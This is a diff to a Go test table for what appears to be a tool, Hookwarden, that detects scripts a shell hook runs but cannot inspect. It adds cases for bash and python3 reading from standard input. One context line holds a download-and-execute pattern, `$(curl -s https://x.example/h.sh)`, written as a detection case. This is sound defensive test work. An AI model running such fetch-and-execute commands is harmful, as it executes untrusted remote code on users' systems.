@@ -212,6 +212,8 @@ func TestDiscoverScripts(t *testing.T) {
 		{`trap '. ./x.sh' EXIT; true`, []string{"sourced . x.sh"}, nil},
 		// Code Hookwarden cannot see.
 		{`exec 3< x.sh; source /dev/fd/3`, nil, []string{"device or a file descriptor"}},
+		{`bash`, nil, []string{"bash reads its program from standard input"}},
+		{`python3 -`, nil, []string{"python3 reads its program from standard input"}},
 		{`bash "$S"`, nil, []string{"the variable $S"}},
 		{`"$TOOL" --check`, nil, []string{"the program is set from the variable $TOOL"}},
 		{`$(curl -s https://x.example/h.sh)`, nil, []string{"the program is downloaded"}},
